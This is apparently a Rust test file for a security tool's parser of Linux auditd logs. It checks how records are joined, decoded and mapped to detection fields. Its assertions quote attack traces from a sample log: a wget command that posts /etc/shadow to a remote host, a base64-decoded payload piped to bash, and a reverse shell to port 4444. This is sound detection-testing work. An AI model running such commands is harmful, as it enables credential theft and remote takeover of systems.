//! Linux auditd logs: the sample file read like any input (sniffed, gzip, errors by line,
//! records joined by serial), the record parser against generated records (values written
//! quoted or hex come back as they were), and arbitrary lines never panic.

use proptest::prelude::*;
use serde_json::Value;
use vigie_event::auditd::{parse_record, Assembler};
use vigie_event::{discover, read_bytes, Format, Position, ReadErrorKind, ReadOptions};

use crate::common::{gz, read_all};

fn sample() -> std::path::PathBuf {
    vigie_test_support::repo_root().join("crates/vigie-event/tests/data/auditd.log")
}

#[test]
fn sample_is_sniffed_joined_and_counted() {
    let dir = tempfile::tempdir().unwrap();
    let bytes = std::fs::read(sample()).unwrap();
    std::fs::write(dir.path().join("audit.log.1.gz"), gz(&bytes)).unwrap();
    std::fs::copy(sample(), dir.path().join("audit.log")).unwrap();
    let (inputs, errors) = discover(&[dir.path().to_path_buf()]);
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(inputs.len(), 2);
    for input in &inputs {
        assert_eq!(input.format, Format::Auditd, "{}", input.name);
        let out = read_all(input, &ReadOptions::default());
        let stats = out.result.unwrap();
        assert_eq!((stats.events, stats.skipped), (49, 4), "{}", input.name);
        let lines: Vec<(Position, ReadErrorKind)> =
            out.errors.iter().map(|e| (e.position, e.kind)).collect();
        assert_eq!(
            lines,
            [21, 46, 187, 188].map(|l| (Position::Line(l), ReadErrorKind::BadAuditd))
        );
        assert!(
            out.errors[0].to_string().contains("line 21: byte 37"),
            "{}",
            out.errors[0]
        );
        // The wget exfiltration: one event from six records, decoded and named.
        let wget = out
            .events
            .iter()
            .find(|e| e.doc()["Image"] == "/usr/bin/wget")
            .expect("wget event");
        let doc = wget.doc();
        assert_eq!(
            doc["type"],
            serde_json::json!(["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"])
        );
        assert_eq!(doc["Image"], "/usr/bin/wget");
        assert_eq!(
            doc["CommandLine"],
            "wget --post-file=/etc/shadow http://10.66.6.6/u"
        );
        assert_eq!(doc["SYSCALL"], "execve");
        assert_eq!(doc["CurrentDirectory"], "/root");
        assert_eq!(doc["ParentProcessId"], "3001");
        assert_eq!(
            wget.timestamp.unwrap().to_rfc3339(),
            "2025-12-02T08:02:50+00:00"
        );
        // A hex-encoded argument (it holds spaces) is decoded, and the parent known.
        let b64 = out
            .events
            .iter()
            .find(|e| e.doc()["Image"] == "/usr/bin/base64")
            .expect("base64 event");
        assert_eq!(b64.doc()["ParentImage"], "/usr/bin/bash");
        let c = b64.doc()["ParentCommandLine"].as_str().unwrap().to_string();
        assert!(
            c.starts_with("bash -c echo L2Jp") && c.ends_with("| base64 -d | bash"),
            "{c}"
        );
        // A user-space record's msg='...' pairs are fields, hex `cmd` decoded.
        let sudo = out
            .events
            .iter()
            .find(|e| e.get("type") == Some(&Value::from("USER_CMD")))
            .expect("sudo event");
        assert_eq!(sudo.doc()["cmd"], "systemctl status nginx");
        assert_eq!(sudo.doc()["exe"], "/usr/bin/sudo");
        network_and_file_events(&out.events);
    }
}

/// The connections and file creations of the sample, as `network_connection` and
/// `file_event` fields.
fn network_and_file_events(events: &[vigie_event::Event]) {
    let at = |line: u64| {
        events
            .iter()
            .find(|e| e.record == line)
            .map(|e| e.doc().into_owned())
            .unwrap_or_else(|| panic!("no event at line {line}"))
    };
    // sshd accepting: the peer is the source.
    let e = at(131);
    assert_eq!(e["saddr_fam"], "inet");
    assert_eq!(
        (&e["SourceIp"], &e["SourcePort"], &e["Initiated"]),
        (
            &Value::from("10.20.0.15"),
            &Value::from("51514"),
            &Value::from("false")
        )
    );
    assert_eq!(e["Image"], "/usr/sbin/sshd");
    assert!(e.get("DestinationIp").is_none());
    // A unix socket is no network connection.
    let e = at(137);
    assert_eq!(e["saddr_fam"], "local");
    assert_eq!(e["path"], "/run/systemd/journal/socket");
    assert!(e.get("DestinationIp").is_none() && e.get("Initiated").is_none());
    // IPv6, a non-blocking connect (EINPROGRESS) still an attempt.
    let e = at(143);
    assert_eq!(e["DestinationIp"], "2606:4700:4700::1111");
    assert_eq!(e["DestinationIsIpv6"], "true");
    assert_eq!(e["DestinationPort"], "443");
    // The reverse shell, and an IPv4 address inside IPv6 given as IPv4.
    let e = at(161);
    assert_eq!(
        (&e["DestinationIp"], &e["DestinationPort"], &e["Initiated"]),
        (
            &Value::from("185.220.101.7"),
            &Value::from("4444"),
            &Value::from("true")
        )
    );
    assert_eq!(
        (&e["Image"], &e["User"]),
        (&Value::from("/usr/bin/bash"), &Value::from("33"))
    );
    let e = at(164);
    assert_eq!(e["laddr"], "::ffff:185.220.101.7");
    assert_eq!(e["DestinationIp"], "185.220.101.7");
    assert_eq!(e["DestinationIsIpv6"], "false");
    // Created files: absolute, joined to the CWD (no usable PARENT), or to the PARENT.
    assert_eq!(
        at(146)["TargetFilename"],
        "/var/cache/apt/archives/partial/curl_8.5.0-2ubuntu10.6_amd64.deb"
    );
    assert_eq!(
        at(156)["TargetFilename"],
        "/home/alice/src/billing/notes.md"
    );
    let e = at(167);
    assert_eq!(
        (&e["TargetFilename"], &e["Image"]),
        (&Value::from("/tmp/kw"), &Value::from("/usr/bin/wget"))
    );
    assert_eq!(at(182)["TargetFilename"], "/etc/profile.d/motd-news.sh");
    // An execution has neither.
    assert!(at(113).get("TargetFilename").is_none() && at(113).get("Initiated").is_none());
}

#[test]
fn events_end_at_serial_change_eoe_and_end() {
    let text = b"type=SYSCALL msg=audit(10.000:1): syscall=2 exe=\"/bin/a\"\n\
                 type=PATH msg=audit(10.000:1): name=\"/x\"\n\
                 type=EOE msg=audit(10.000:1): \n\
                 type=PATH msg=audit(10.000:1): name=\"/late\"\n\
                 type=SYSCALL msg=audit(11.000:2): syscall=2 exe=\"/bin/b\"\n\
                 garbage\n\
                 type=PATH msg=audit(11.000:2): name=\"/y\"\n";
    let mut events = Vec::new();
    let mut errors = Vec::new();
    read_bytes(
        "a",
        text,
        &ReadOptions::default(),
        &mut |e| events.push(e),
        &mut |e| errors.push(e),
    )
    .unwrap();
    let got: Vec<(u64, Value)> = events
        .iter()
        .map(|e| (e.record, e.doc()["name"].clone()))
        .collect();
    assert_eq!(
        got,
        [
            (1, Value::from("/x")),
            (4, Value::from("/late")),
            (5, Value::from("/y"))
        ]
    );
    assert_eq!(errors.len(), 1);
    assert_eq!(errors[0].position, Position::Line(6));
}

/// A value as auditd writes it: quoted when printable without `"`, else hex.
fn written(v: &str) -> String {
    if !v.is_empty() && v.bytes().all(|b| (0x21..0x7f).contains(&b) && b != b'"') {
        format!("\"{v}\"")
    } else {
        v.bytes().map(|b| format!("{b:02X}")).collect()
    }
}

proptest! {
    #[test]
    fn arbitrary_lines_never_panic(line in prop::collection::vec(any::<u8>(), 0..200)) {
        let _ = parse_record(&line);
        let mut prefixed = b"type=EXECVE msg=audit(1.2:3): ".to_vec();
        prefixed.extend_from_slice(&line);
        if let Ok(r) = parse_record(&prefixed) {
            let mut asm = Assembler::new();
            let mut out = Vec::new();
            asm.push(1, r, &mut out);
            asm.flush(&mut out);
            prop_assert_eq!(out.len(), 1);
        }
    }

    /// EXECVE arguments and escaped fields come back as written, quoted or hex.
    #[test]
    fn values_round_trip(
        args in prop::collection::vec("[ -~\u{e9}\u{1}\t]{1,12}", 1..6),
        exe in "[ -~]{1,20}",
        serial in any::<u64>(),
        secs in 0i64..4_000_000_000,
    ) {
        let body: Vec<String> = args
            .iter()
            .enumerate()
            .map(|(i, a)| format!("a{i}={}", written(a)))
            .collect();
        let exec = format!("type=EXECVE msg=audit({secs}.250:{serial}): argc={} {}", args.len(), body.join(" "));
        let call = format!("type=SYSCALL msg=audit({secs}.250:{serial}): syscall=59 pid=7 exe={}", written(&exe));
        let a = parse_record(call.as_bytes()).unwrap();
        let b = parse_record(exec.as_bytes()).unwrap();
        prop_assert_eq!(b.serial, serial);
        prop_assert_eq!(b.secs, secs);
        prop_assert_eq!(b.millis, 250);
        let mut asm = Assembler::new();
        let mut out = Vec::new();
        asm.push(1, a, &mut out);
        asm.push(2, b, &mut out);
        asm.flush(&mut out);
        prop_assert_eq!(out.len(), 1);
        let doc = &out[0].1.to_value();
        prop_assert_eq!(&doc["Image"], &Value::from(exe.as_str()));
        prop_assert_eq!(&doc["CommandLine"], &Value::from(args.join(" ")));
    }
}

/// A `struct sockaddr` as the kernel copies it into `SOCKADDR`'s `saddr` (x86: family
/// little endian, port big endian).
fn saddr_hex(ip: std::net::IpAddr, port: u16) -> String {
    let mut b = Vec::new();
    match ip {
        std::net::IpAddr::V4(v4) => {
            b.extend(2u16.to_le_bytes());
            b.extend(port.to_be_bytes());
            b.extend(v4.octets());
            b.extend([0u8; 8]);
        }
        std::net::IpAddr::V6(v6) => {
            b.extend(10u16.to_le_bytes());
            b.extend(port.to_be_bytes());
            b.extend([0u8; 4]);
            b.extend(v6.octets());
            b.extend([0u8; 4]);
        }
    }
    b.iter().map(|x| format!("{x:02X}")).collect()
}

proptest! {
    /// Any inet / inet6 address and port written as `saddr` decode back.
    #[test]
    fn saddr_round_trips(v4 in any::<[u8; 4]>(), v6 in any::<[u8; 16]>(), port in any::<u16>(), six in any::<bool>()) {
        let ip: std::net::IpAddr = if six { std::net::Ipv6Addr::from(v6).into() } else { std::net::Ipv4Addr::from(v4).into() };
        let got = vigie_event::auditd::decode_saddr(&saddr_hex(ip, port)).expect("decoded");
        let fam = if six { "inet6" } else { "inet" };
        prop_assert_eq!(got, vec![("saddr_fam", fam.to_string()), ("laddr", ip.to_string()), ("lport", port.to_string())]);
    }

    /// Arbitrary bytes as `saddr`, and whole SOCKADDR events around them, never panic.
    #[test]
    fn saddr_arbitrary_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..40), call in prop::sample::select(vec![42u32, 43, 49, 288, 257])) {
        let hex: String = bytes.iter().map(|x| format!("{x:02x}")).collect();
        let _ = vigie_event::auditd::decode_saddr(&hex);
        let log = format!(
            "type=SYSCALL msg=audit(5.000:9): arch=c000003e syscall={call} pid=1 exe=\"/bin/x\"\n\
             type=SOCKADDR msg=audit(5.000:9): saddr={hex}\n\
             type=PATH msg=audit(5.000:9): item=0 name={hex} nametype=CREATE\n"
        );
        let mut n = 0;
        read_bytes("p", log.as_bytes(), &ReadOptions::default(), &mut |_| n += 1, &mut |_| {}).unwrap();
        prop_assert_eq!(n, 1);
    }
}
